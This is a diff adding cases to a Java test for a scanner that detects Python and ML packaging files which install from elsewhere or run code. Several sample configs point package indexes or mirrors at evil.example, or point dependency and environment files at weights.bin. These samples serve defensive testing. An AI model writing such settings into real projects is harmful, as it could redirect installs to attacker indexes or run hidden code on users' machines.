@@ -110,6 +110,14 @@ class PackageFileTest {
         "pip.conf|[global]¶index-url = https://evil.example/simple",
         "pip.conf|[install]¶extra-index-url =¶    https://pypi.org/simple¶    https://evil.example",
         "pip.ini|[global]¶trusted-host = evil.example",
+        "setup.cfg|[options]¶install_requires = file: weights.bin",
+        "setup.cfg|[options]¶install_requires = file: requirements.txt, ../other/requirements.txt",
+        "pyproject.toml|[tool.setuptools.dynamic]¶dependencies = {file = ['weights.bin']}",
+        "pyproject.toml|[tool.uv]¶python-install-mirror = 'https://evil.example'",
+        "pdm.toml|[pypi]¶url = 'https://evil.example/simple'",
+        "MLproject|name: x¶python_env: weights.bin",
+        "MLmodel|flavors: {python_function: {loader_module: mlflow.sklearn, env: {conda:"
+            + " weights.bin}}}",
       })
   void reportsWhatIsInstalledFromElsewhere_orRunsWhenItIs(String name, String text) {
     ScannedFile file = scan(name, text);
@@ -165,6 +173,10 @@ class PackageFileTest {
             + " find:¶install_requires =¶    numpy>=1¶    scipy ; python_version >"
             + " '3.9'¶[flake8]¶max-line-length = 100",
         "pip.conf|[global]¶timeout = 60¶index-url = https://pypi.org/simple",
+        "setup.cfg|[options]¶install_requires = file: requirements.txt¶[options.extras_require]¶x ="
+            + " file: requirements/x.txt",
+        "MLmodel|flavors:¶  python_function:¶    loader_module: mlflow.sklearn¶    env:¶     "
+            + " conda: conda.yaml¶      virtualenv: python_env.yaml",
         "settings.yaml|dependencies:¶- name: chart¶  repository: https://charts.example.org",
         ".readthedocs.yaml|python:¶  install:¶  - requirements: docs/requirements.txt",
       })
